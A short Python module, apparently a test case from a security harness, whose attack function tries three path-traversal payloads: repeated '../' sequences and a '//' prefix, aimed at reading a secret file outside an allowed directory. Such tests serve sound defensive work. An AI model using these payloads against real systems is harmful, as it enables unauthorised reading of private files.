"""Success: a file outside, by a relative path."""

from kit import text, tries


def attack(a):
    return tries(
        lambda: text("../" * 30 + a["secret_file"][1:]),
        lambda: text("./" + "../" * 30 + a["reference"][1:]),
        lambda: text("//" + a["secret_file"]),
    )
